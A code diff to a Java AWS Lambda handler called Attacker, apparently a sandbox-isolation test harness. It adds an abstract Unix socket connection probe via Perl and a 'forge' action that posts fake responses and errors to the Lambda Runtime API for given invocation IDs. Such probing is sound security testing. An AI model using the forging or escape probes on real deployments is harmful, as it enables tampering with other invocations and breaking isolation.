@@ -23,6 +23,9 @@ public class Attacker implements RequestHandler<Map<String, Object>, List<String
     private static final String PERL = "for (@ARGV) { my ($name, @call) = split / /; $_ = /^-?\\d+$/ ? $_ + 0 : $_ for @call;"
             + " print \"$name \", (syscall(shift @call, @call) == -1 ? $! + 0 : \"done\"), \"\\n\" }";
 
+    /** Nor has it abstract sockets. */
+    private static final String ABSTRACT = "use Socket; alarm 1; socket(S, AF_UNIX, SOCK_STREAM, 0) && connect(S, pack_sockaddr_un(\"\\0\" . shift)) && sysread(S, $_, 1) || exit 1";
+
     private interface Attempt {
         boolean make(String arg) throws Exception;
     }
@@ -79,6 +82,8 @@ public class Attacker implements RequestHandler<Map<String, Object>, List<String
                 return run(args, "/usr/bin/perl", "-e", PERL);
             case "connect":
                 return could(args, Attacker::connect);
+            case "forge":
+                return forge(args);
             case "http":
                 return http(args);
             case "spawn":
@@ -143,7 +148,10 @@ public class Attacker implements RequestHandler<Map<String, Object>, List<String
         return Arrays.asList(new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8).trim().split("\n"));
     }
 
-    private static boolean connect(String address) throws IOException {
+    private static boolean connect(String address) throws IOException, InterruptedException {
+        if (address.startsWith("@")) {
+            return new ProcessBuilder("/usr/bin/perl", "-e", ABSTRACT, address.substring(1)).start().waitFor() == 0;
+        }
         int colon = address.lastIndexOf(':');
         try (Socket s = new Socket()) {
             s.connect(new InetSocketAddress(address.substring(0, colon), Integer.parseInt(address.substring(colon + 1))), 1000);
@@ -151,6 +159,21 @@ public class Attacker implements RequestHandler<Map<String, Object>, List<String
             s.getOutputStream().write("GET / HTTP/1.0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
             return s.getInputStream().read() >= 0;
         }
+    }
+
+    private static List<String> forge(List<String> ids) throws IOException {
+        List<String> out = new ArrayList<>();
+        for (String id : ids) {
+            for (String end : new String[] {"response", "error"}) {
+                URL url = new URL("http://" + System.getenv("AWS_LAMBDA_RUNTIME_API") + "/2018-06-01/runtime/invocation/" + id + "/" + end);
+                HttpURLConnection c = (HttpURLConnection) url.openConnection();
+                c.setDoOutput(true);
+                c.getOutputStream().write('{');
+                c.getOutputStream().write('}');
+                out.add(end + " " + c.getResponseCode());
+            }
+        }
+        return out;
     }
 
     private static List<String> http(List<String> args) throws IOException {
